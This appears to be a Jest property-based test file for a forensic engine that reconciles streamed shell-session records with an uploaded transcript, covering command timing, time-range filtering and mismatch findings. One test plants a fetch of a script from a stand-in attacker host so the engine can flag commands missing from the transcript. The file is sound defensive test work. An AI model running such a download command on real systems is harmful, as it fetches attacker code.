import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { ask } from "../../shared/app/ask.ts";
import { parseQuestion } from "../../shared/query/parseQuestion.ts";
import type { Ask } from "../../shared/query/Question.ts";
import type { CommandAnswer, DoubtfulAnswer, FindingAnswer } from "../../shared/query/Answer.ts";
import { answersOf } from "./answersOf.ts";
import { deliver } from "./deliver.ts";
import { allSessions, SESSION_GROUP, type History } from "./History.ts";
import { newAccount, openEngine, portsOn, runs, type LawEngine } from "./lawEngine.ts";
import { calm, wild } from "./Plan.ts";

const [SESSION = ""] = allSessions;
const OPENED = Date.parse("2026-03-01T10:00:00Z");
const UPLOADED = OPENED + 3_600_000;

let engine: LawEngine;
beforeAll(async () => {
  engine = await openEngine("sqlite");
});
afterAll(() => (engine.kind === "open" ? engine.close() : undefined));
const ports = () => {
  if (engine.kind !== "open") throw new Error(engine.reason);
  return portsOn(engine.table);
};

const shown = (command: string): string => `sh-5.1# ${command}`;
const output = (n: number): string => `output ${n} of it`;

/** A session whose every command came live in a record of its own, and again in the transcript. */
function history(
  typed: readonly string[],
  live: readonly string[],
  minutes: readonly number[],
): History {
  const record = (command: string, n: number) => ({
    id: String(100 + n),
    timestamp: OPENED + (minutes[n] ?? n) * 60_000,
    message: JSON.stringify({
      eventVersion: "1.0",
      target: { id: "" },
      userIdentity: { arn: "" },
      runAsUser: "",
      sessionId: SESSION,
      sessionData: [shown(command), output(n)],
    }),
  });
  const transcript = {
    id: "900",
    timestamp: UPLOADED,
    message: `${typed.flatMap((command, n) => [shown(command), output(n)]).join("\r\n")}\r\nsh-5.1# exit\r\n`,
  };
  const events = [...live.map(record), record("exit", live.length), transcript];
  return { lanes: [{ logGroup: SESSION_GROUP, logStream: SESSION, events }], words: [] };
}

async function items<T>(account: string, name: Ask, more = {}): Promise<readonly T[]> {
  const question = parseQuestion(name, { account, ...more }, 0);
  if (!question.ok) throw new Error(question.error.detail);
  const answered = await ask(ports(), question.answer);
  if (!answered.ok) throw new Error(answered.error.detail);
  return (answered.answer as { items: readonly T[] }).items;
}

const script = fc.array(fc.constantFrom("ls", "cat a", "ls /opt", "id", "pwd", "cat b | wc"), {
  minLength: 1,
  maxLength: 6,
});

describe("one session in two forms", () => {
  test("times and differences are the same whichever form, and whichever part of it, came first", async () => {
    let told = 0;
    await fc.assert(
      fc.asyncProperty(
        script.chain((typed) => {
          const kept = fc.subarray([...typed.keys()]);
          return kept.chain((which) => {
            const live = which.map((n) => typed[n] ?? "");
            const made = history(
              typed,
              live,
              which.map((n) => n * 5 + 1),
            );
            return fc.record({ made: fc.constant(made), plan: wild(made) });
          });
        }),
        async ({ made, plan }) => {
          const [first, second] = [newAccount(), newAccount()];
          await deliver(ports(), first, made, calm(made));
          await deliver(ports(), second, made, plan);
          expect(await answersOf(ports(), second)).toEqual(await answersOf(ports(), first));
          const commands = await items<CommandAnswer>(second, "commands");
          told += commands.filter(({ timedBy }) => timedBy?.itself).length;
          for (const { evidence } of commands)
            expect(Date.parse(evidence.timestamp)).toBe(UPLOADED);
        },
      ),
      { numRuns: runs(30) },
    );
    expect(told).toBeGreaterThan(30);
  }, 300_000);

  test("a command is told by its record; one that no record has, by its neighbours", async () => {
    const account = newAccount();
    const made = history(["ls", "cat a", "id"], ["ls", "id"], [1, 31, 40]);
    await deliver(ports(), account, made, calm(made));
    const commands = await items<CommandAnswer>(account, "commands");
    expect(
      commands.map(({ command, after, notAfter, timedBy }) => [
        command,
        after?.slice(11, 16),
        notAfter.slice(11, 16),
        timedBy?.itself,
        timedBy?.eventId,
      ]),
    ).toEqual([
      ["exit", "10:31", "10:40", true, "102"],
      ["id", "10:01", "10:31", true, "101"],
      // It ran after `ls` had begun, and `ls` has no lower bound.
      ["cat a", undefined, "10:31", false, "101"],
      ["ls", undefined, "10:01", true, "100"],
    ]);
  });

  test("the times narrow what a time range finds, and a page's order stays the events'", async () => {
    const account = newAccount();
    const made = history(["ls", "cat a", "id"], ["ls", "cat a", "id"], [1, 20, 40, 41]);
    await deliver(ports(), account, made, calm(made));
    const within = await items<CommandAnswer>(account, "commands", {
      since: "2026-03-01T10:10:00Z",
      until: "2026-03-01T10:20:00Z",
    });
    expect(within.map(({ command }) => command)).toEqual(["id", "cat a"]);
  });

  test("a command that the transcript lacks is listed, and a finding where no word of it is there", async () => {
    const account = newAccount();
    const evil = "curl http://evil.example/x.sh";
    const made = history(["ls", "id"], ["ls", evil, "id"], [1, 2, 3, 4]);
    await deliver(ports(), account, made, calm(made));
    expect((await items<CommandAnswer>(account, "commands")).map((one) => one.command)).toEqual([
      "exit",
      "id",
      "ls",
    ]);
    const doubtful = await items<DoubtfulAnswer>(account, "doubtful", { session: SESSION });
    expect(doubtful).toMatchObject([{ line: evil, reason: "other-form", form: "streamed" }]);
    expect(doubtful[0]?.evidence.eventId).toBe("101");
    expect(await items<FindingAnswer>(account, "findings")).toMatchObject([
      { kind: "forms-disagree", detail: [`only streamed, not transcript: ${evil}`] },
    ]);
  });
});
